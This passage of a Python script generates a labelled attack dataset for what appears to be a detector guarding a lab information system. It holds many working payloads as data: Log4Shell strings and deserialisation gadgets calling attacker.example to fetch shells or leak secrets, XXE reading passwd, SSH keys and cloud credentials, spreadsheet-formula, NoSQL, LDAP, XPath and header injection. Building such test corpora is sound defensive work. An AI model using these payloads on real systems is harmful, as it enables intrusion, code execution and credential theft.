    ("label_template-handlebars-proto", "{{#with (lookup this \"constructor\") as |c|}}{{c.constructor \"return process.mainModule.require('child_process').execSync('id')\"}}{{/with}}"),
    ("label_template-el-jsp", "${pageContext.request.getSession().getServletContext().getRealPath('/')}"),
    ("user_agent-log4shell", "${jndi:ldap://attacker.example:1389/lims}"),
    ("sample_id-log4shell-lower", "S-0412 ${${lower:j}ndi:${lower:l}dap://x.attacker.example/a}"),
    ("lot_no-log4shell-default", "23B-0417 ${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.14:1099/o}"),
    ("deviation_text-log4shell-env-exfil", "${jndi:ldap://${env:DB_PASSWORD}.x.attacker.example/d}"),
    ("protocol_id-log4shell-dns", "ABC-123-301${jndi:dns://198.51.100.22/q}"),
    ("eln_note-log4shell-upper-nested", "${${upper:j}${upper:n}${upper:d}${upper:i}:ldaps://attacker.example/z}"),
    ("instrument_log-log4shell-sys", "${jndi:ldap://${sys:java.version}.${hostName}.attacker.example/v}"),
    ("session_blob-pickle-protocol0", "cposix\nsystem\n(S'curl -s http://attacker.example/k|sh'\ntR."),
    ("cache_blob-pickle-subprocess", "csubprocess\ncheck_output\n((lp0\nS'id'\natR."),
    ("plate_export-php-object", "O:14:\"LimsExportTask\":2:{s:4:\"path\";s:22:\"/var/www/html/coa.php\";s:4:\"data\";s:30:\"<?php system($_GET['c']); ?>\";}"),
    ("method_yaml-python-apply", "!!python/object/apply:os.system [\"curl http://attacker.example/y | sh\"]"),
    ("method_yaml-python-new", "!!python/object/new:subprocess.check_output [[\"cat\", \"/etc/passwd\"]]"),
    ("config_yaml-snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
    ("json_body-jsonnet-type", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("json_body-jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/j\",\"autoCommit\":true}]"),
    ("json_body-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.14:1099/f\",\"autoCommit\":true}"),
    ("json_body-node-serialize", "{\"plate\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id',function(e,o){})}()\"}"),
    ("session_cookie-java-serialized", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHAAAAACc3IAK29yZy5hcGFjaGUuY29tbW9ucy5iZWFudXRpbHMuQmVhbkNvbXBhcmF0b3I="),
    ("xml_import-xxe-file", "<?xml version=\"1.0\"?>\n<!DOCTYPE sample [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<sample><id>S-2024-00412</id><note>&x;</note></sample>"),
    ("xml_import-xxe-parameter-oob", "<?xml version=\"1.0\"?><!DOCTYPE plate [<!ENTITY % d SYSTEM \"http://attacker.example/p.dtd\"> %d;]><plate id=\"PL-00412\"/>"),
    ("xml_import-xinclude", "<batch xmlns:xi=\"http://www.w3.org/2001/XInclude\"><lot>23B-0417</lot><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></batch>"),
    ("xml_import-billion-laughs", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">]><r>&f;</r>"),
    ("structure_svg-xxe", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY k SYSTEM \"file:///home/lims/.ssh/id_rsa\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text x=\"0\" y=\"20\">&k;</text></svg>"),
    ("xml_import-xxe-php-filter", "<!DOCTYPE m [<!ENTITY s SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/lims/config.php\">]><method><name>&s;</name></method>"),
    ("xml_import-xxe-ssrf-imds", "<!DOCTYPE q [<!ENTITY i SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]><query><cas>&i;</cas></query>"),
    ("json_body-prototype-pollution", "{\"__proto__\":{\"isAdmin\":true,\"role\":\"QA_APPROVER\"}}"),
    ("json_body-constructor-prototype", "{\"lot\":\"23B-0417\",\"constructor\":{\"prototype\":{\"canRelease\":true}}}"),
    ("query-prototype-pollution", "__proto__[qpSigned]=true&__proto__[status]=RELEASED"),
    ("query-prototype-pollution-dot", "constructor.prototype.outputFunctionName=x;process.mainModule.require('child_process').execSync('id');s"),
    ("csv_export-formula-hyperlink", "=HYPERLINK(\"http://attacker.example/?d=\"&A2&B2,\"Open CoA\")"),
    ("csv_export-formula-dde", "=cmd|' /C calc'!A0"),
    ("csv_export-formula-plus-dde", "+SUM(1+1)*cmd|' /C powershell -nop -c iwr attacker.example/x|iex'!A0"),
    ("csv_export-formula-at", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("csv_export-formula-minus", "-2+3+cmd|' /C notepad'!A0"),
    ("csv_export-formula-webservice", "=WEBSERVICE(\"http://attacker.example/leak?\"&ENCODEURL(C2))"),
    ("csv_export-formula-importxml", "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\",A2:D20),\"//a\")"),
    ("csv_export-formula-tab-prefix", "\t=HYPERLINK(\"https://attacker.example/login\",\"Re-authenticate LIMS\")"),
    ("dose_formula-python-eval", "weight_kg*2 + __import__('os').system('id')"),
    ("dose_formula-python-eval-builtins", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').popen('id').read()"),
    ("calc_field-node-eval", "1;require('child_process').execSync('curl attacker.example/n|sh')"),
    ("calc_field-js-function-ctor", "Function('return process')().mainModule.require('child_process').execSync('id').toString()"),
    ("search-spel-hash", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("eln_note-el-jsf", "#{facesContext.externalContext.sessionMap}"),
    ("label_template-jinja2+unicode-escape", "{{ '\\u0022'.__class__.__mro__[1].__subclasses__() }}"),
    ("label_template-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("label_template-django-debug", "{{ settings.SECRET_KEY }}{% debug %}"),
    ("label_template-go-template", "{{ .Env.DB_PASSWORD }}{{ printf \"%s\" .Config }}"),
    ("plain-jinja2-eval", "{{ self.__init__.__globals__.__builtins__.eval(\"__import__('os').popen('id').read()\") }}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/x}"),
    ("plain-xxe", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
    ("plain-csv-formula", "=1+1+cmd|'/c calc'!A1"),
    ("plain-proto", "{\"__proto__\":{\"admin\":true}}"),
    ("user_agent-log4shell+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fu%7D"),
    ("json_body-proto+unicode-escape", "{\"\\u005f\\u005fproto\\u005f\\u005f\":{\"isAdmin\":true}}"),
    ("plain-freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
]

NOSQLI = [
    ("login_json-ne-operator", "{\"username\":\"qa_admin\",\"password\":{\"$ne\":null}}"),
    ("login_json-gt-empty", "{\"username\":{\"$gt\":\"\"},\"password\":{\"$gt\":\"\"}}"),
    ("lot_query-ne+bracket", "lot[$ne]=x&site=DE01"),
    ("sample_filter-where-sleep", "{\"sample_id\":\"S-0412\",\"$where\":\"sleep(5000) || true\"}"),
    ("login_json-regex-exfil", "{\"username\":\"qa_admin\",\"password\":{\"$regex\":\"^a\"}}"),
    ("where_string-js-breakout", "S-0412' || '1'=='1"),
    ("filter_json-or-empty", "{\"$or\":[{},{\"lot\":\"23B-0417\"}]}"),
    ("filter_json-function-sleep", "{\"$expr\":{\"$function\":{\"body\":\"function(){sleep(5000);return true}\",\"args\":[],\"lang\":\"js\"}}}"),
    ("batch_query-regex-bracket", "batch[$regex]=.*&batch[$options]=si"),
    ("pipeline-lookup-users", "[{\"$lookup\":{\"from\":\"users\",\"pipeline\":[{\"$project\":{\"login\":1,\"pwdHash\":1}}],\"as\":\"leak\"}}]"),
    ("where_string-return-true", "23B-0417'; return true; var d='"),
    ("where_string-match-exfil", "x' || this.password.match(/^qa.*/) || 'a'=='b"),
    ("filter_json-nin-empty", "{\"status\":{\"$nin\":[]}}"),
    ("login_query-ne+bracket", "username[$ne]=nobody&password[$ne]=nobody"),
    ("filter_json-exists", "{\"qp_signature\":{\"$exists\":false},\"lot\":{\"$gt\":\"\"}}"),
    ("filter_json-where-exfil-loop", "{\"$where\":\"this.role=='ADMIN' && this.pwdHash[0]=='a' ? sleep(3000)||true : true\"}"),
    ("pipeline-out-overwrite", "[{\"$match\":{}},{\"$out\":\"lims_users\"}]"),
    ("sample_filter-regex-dos", "{\"sample_id\":{\"$regex\":\"^(a+)+$\"}}"),
    ("filter_json-ne+unicode-escape", "{\"password\":{\"\\u0024ne\":\"x\"}}"),
    ("plain-ne", "{\"$ne\": 1}"),
    ("plain-where", "'; while(true){}; '"),
    ("plain-gt-bracket", "password[$gt]="),
    ("lot_query-gt+urlenc", "lot%5B%24gt%5D=&site=DE01"),
    ("plain-gt-json", "{\"$gt\": \"\"}"),
]

CRLF = [
    ("lang_header-set-cookie", "en-US\r\nSet-Cookie: lims_session=attacker-fixed-0000"),
    ("redirect_param-set-cookie+urlenc", "/batches/23B-0417%0d%0aSet-Cookie:%20role=QA_ADMIN"),
    ("audit_log-forged-release", "S-2024-00412\n2024-05-02 10:14:03 INFO user=qa_lead action=BATCH_RELEASE lot=23B-0417 result=APPROVED esign=OK"),
    ("audit_log-forged-login", "PL-00412\r\n2024-06-01T08:00:00Z AUDIT login success user=qp_mueller ip=10.0.0.5"),
    ("notify_email-bcc", "qa@pharma.example\r\nBcc: leak@attacker.example"),
    ("notify_email-cc+urlenc", "qa@pharma.example%0d%0aCc:%20all-sites@attacker.example"),
    ("mail_subject-body-injection", "CoA 23B-0417\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/coa\">Download signed CoA</a>"),
    ("response_split-full", "en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("json_header-crlf+unicode-escape", "{\"filename\":\"coa.pdf\\u000d\\u000aX-Injected: 1\"}"),
    ("filename_header-utf8-crlf", "coa.pdf%E5%98%8A%E5%98%8DLocation:%20https://attacker.example/"),
    ("redirect_param-location", "/plates/PL-00412\r\nLocation: https://attacker.example/lims"),
    ("deviation_log-multiline-forge", "DEV-2024-0193 closed\n[2024-05-22 09:00:00] QA APPROVED DEV-2024-0194 by qa_head (e-signature verified)\n[2024-05-22 09:00:01] QA APPROVED DEV-2024-0195 by qa_head (e-signature verified)"),
    ("mail_from-header", "Lab Notifier <noreply@pharma.example>\nReply-To: support@attacker.example"),
    ("download_name-content-disposition", "coa.pdf\"\r\nContent-Type: text/html\r\n\r\n<h1>Session expired</h1>"),
    ("syslog_field-cr-only-overwrite", "PL-00412\rOK: all wells passed QC"),
    ("csv_log-lf+urlenc", "S-0412%0a2024-05-03,jdoe,DELETE,S-0413,approved"),
    ("header_value-double-urlenc", "en-US%250d%250aX-Forwarded-For:%25203.0.113.1"),
    ("smtp-smuggling-dot", "Weekly stability report\r\n.\r\nMAIL FROM:<qp@pharma.example>\r\nRCPT TO:<leak@attacker.example>\r\nDATA\r\nSubject: fwd\r\n"),
    ("eln_comment-log-ansi", "Looks fine\n\x1b[2K\x1b[1A\x1b[32m[OK] audit check passed\x1b[0m"),
    ("user_agent-log-forge", "Mozilla/5.0\n127.0.0.1 - qa_admin [02/May/2024:10:14:03 +0000] \"POST /release/23B-0417 HTTP/1.1\" 200 12"),
    ("cookie_value-crlf", "lang=de\r\nSet-Cookie: csrftoken=00000000; Path=/"),
    ("export_header-vary", "plate_export.csv\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("sms_notify-header", "+49 170 0000000\r\nX-Priority: 1\r\nTo: all@attacker.example"),
    ("plain-crlf-header", "\r\nX-Injected: yes"),
    ("plain-crlf-urlenc", "%0d%0aSet-Cookie:x=1"),
    ("plain-lf-log", "ok\nERROR forged entry"),
]

LDAP_XPATH = [
    ("ldap_login-wildcard-close", "*)(uid=*))(|(uid=*"),
    ("ldap_login-or-objectclass", "qa_lead)(|(objectClass=*)"),
    ("ldap_group-member-inject", "*)(memberOf=cn=QA-Approvers,ou=Groups,dc=pharma,dc=example)"),
    ("ldap_login-password-attr", "qa_admin)(|(userPassword=*)"),
    ("ldap_login-null-truncate", "qa_admin)(&)%00"),
    ("ldap_search-blind-attr", "jdoe)(description=a*"),
    ("ldap_login-and-true", "admin)(&(objectClass=person)(uid=*))"),
    ("ldap_search-wildcard-only", "*"),
    ("ldap_search-escape+urlenc", "jdoe%29%28%7c%28uid%3d%2a%29"),
    ("xpath_login-tautology", "' or '1'='1"),
    ("xpath_sample-union-node", "S-0412'] | //user/password | //a['"),
    ("xpath_lot-blind-substring", "23B-0417' and substring(//user[1]/password,1,1)='a' and '1'='1"),
    ("xpath_login-name-probe", "x' or name()='password' or 'a'='b"),
    ("xpath_method-count", "ASSAY_v4' and count(/*/*)>3 and 'a'='a"),
    ("xpath_sop-string-length", "SOP-QA-014' and string-length(//user[role='QA']/pwd)>8 or 'x'='y"),
    ("xpath_plate-doc-exfil", "PL-00412' or doc('http://attacker.example/x?'||encode-for-uri(//user[1]/pwd)) or '"),
    ("xpath_login-numeric-or", "0 or 1=1"),
    ("xpath_search-contains", "')] | //*[contains(.,'pass')] | //x[('"),
    ("ldap_login-nested-or", "jdoe)(|(cn=*)(mail=*@pharma.example)"),
    ("plain-ldap", "*)(|(objectclass=*))"),
    ("plain-xpath", "' or 1=1 or ''='"),
    ("plain-ldap-uid", "*)(uid=*"),
]

# ---------------------------------------------------------------- template pools
SQL_CORES = ["' OR '7'='7", "' UNION SELECT login, pwd, NULL FROM lims_users-- -", "'; WAITFOR DELAY '0:0:6'--",
             "' AND SLEEP(7)-- -", "' AND 1=CAST((SELECT pwd FROM lims_users LIMIT 1) AS int)--"]
SQL_IDS = ["S-2024-0{n}", "23C-0{n}", "PL-0{n}", "DEV-2025-0{n}", "CPD-00{n}"]
XSS_CORES = ["<img src=x onerror=alert({n})>", "<svg onload=alert({n})>", "\"><script>alert({n})</script>",
             "<details open ontoggle=alert({n})>"]
XSS_CTX = ["Compound {n}b ", "Plate PL-0{n}: ", "Lot 24A0{n} — ", "AE narrative {n}: "]
CMD_CORES = ["; id", " | cat /etc/hostname", " && curl -s http://attacker.example/{n}|sh", "$(sleep {n})", " `id`"]
CMD_IDS = ["run_0{n}.raw", "SEQ_0{n}.D", "PL-0{n}_raw.csv", "ASSAY_v{n}.M"]
TRAV_DEPTH = [3, 4, 5, 6]
TRAV_TARGETS = ["etc/passwd", "etc/shadow", "opt/lims/.env", "proc/self/environ", "root/.ssh/id_rsa"]
SSRF_HOSTS = ["127.0.0.1", "localhost", "169.254.169.254", "[::1]", "10.0.0.{n}"]
SSRF_PATHS = ["/admin", "/latest/meta-data/", "/actuator/env", "/api/internal/users", "/server-status"]
CODE_CORES = ["{{{{ {n}*{n} }}}}{{{{ config }}}}", "${{jndi:ldap://x{n}.attacker.example/a}}",
              "=HYPERLINK(\"http://attacker.example/{n}?\"&A1,\"CoA\")", "<%= `id` %> #{n}"]


def t_sqli(rng):
    n = rng.randint(100, 9999)
    core = rng.choice(SQL_CORES)
    return "sample_id-templated", rng.choice(SQL_IDS).format(n=n) + core


def t_xss(rng):
    n = rng.randint(10, 9999)
    return "eln_note-templated", rng.choice(XSS_CTX).format(n=n) + rng.choice(XSS_CORES).format(n=n)


def t_cmdi(rng):
    n = rng.randint(2, 999)
    return "raw_filename-templated", rng.choice(CMD_IDS).format(n=n) + rng.choice(CMD_CORES).format(n=n)


def t_traversal(rng):
    d = rng.choice(TRAV_DEPTH)
    sep = rng.choice(["../", "..\\", "..%2f"])
    folder = rng.choice(["exports/", "plates/", "coa/", ""])
    return "export_path-templated", folder + sep * d + rng.choice(TRAV_TARGETS)


def t_ssrf(rng):
    n = rng.randint(2, 250)
    port = rng.choice(["", ":8080", ":5000", ":9000"])
    return "sds_url-templated", "http://" + rng.choice(SSRF_HOSTS).format(n=n) + port + rng.choice(SSRF_PATHS)


def t_code(rng):
    n = rng.randint(2, 99)
    return "label_template-templated", f"Lot {rng.randint(1000, 9999)} " + rng.choice(CODE_CORES).format(n=n)


CATEGORIES = [
    ("sqli", SQLI, t_sqli, 12),
    ("xss", XSS, t_xss, 10),
    ("cmdi", CMDI, t_cmdi, 8),
    ("traversal", TRAVERSAL, t_traversal, 6),
    ("ssrf", SSRF, t_ssrf, 2),
    ("code", CODE, t_code, 4),
    ("nosqli", NOSQLI, None, 0),
    ("crlf", CRLF, None, 0),
    ("ldap-xpath", LDAP_XPATH, None, 0),
]


def main():
    rng = random.Random(SEED)
    benign = set()
    bpath = Path(__file__).with_name("benign.jsonl")
    if bpath.exists():
        with open(bpath, encoding="utf-8") as fh:
            benign = {json.loads(line)["value"] for line in fh}
    rows, seen, lits = [], set(), 0
    for cat, literals, tmpl, n_tmpl in CATEGORIES:
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            rows.append((cat, cls, v))
            lits += 1
        made = 0
        while made < n_tmpl:
            cls, v = tmpl(rng)
            if v in seen:
                continue
            seen.add(v)
            rows.append((cat, cls, v))
            made += 1
    clash = [v for _, _, v in rows if v in benign]
    if clash:
        raise SystemExit(f"values also in benign: {clash[:3]}")
    if lits / len(rows) < 0.8:
        raise SystemExit("not enough literals")
    out = Path(__file__).with_name("attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for i, (cat, cls, v) in enumerate(rows, 1):
            assert isinstance(v, str) and v and len(v) <= 1800
            obj = {"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls, "label": "attack", "value": v}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")
    for cat, literals, _, n_tmpl in CATEGORIES:
        print(f"{cat:12s} {len(literals) + n_tmpl:4d}  literals {len(literals)}")
    print(f"total {len(rows)}  literals {lits}")


if __name__ == "__main__":
    main()
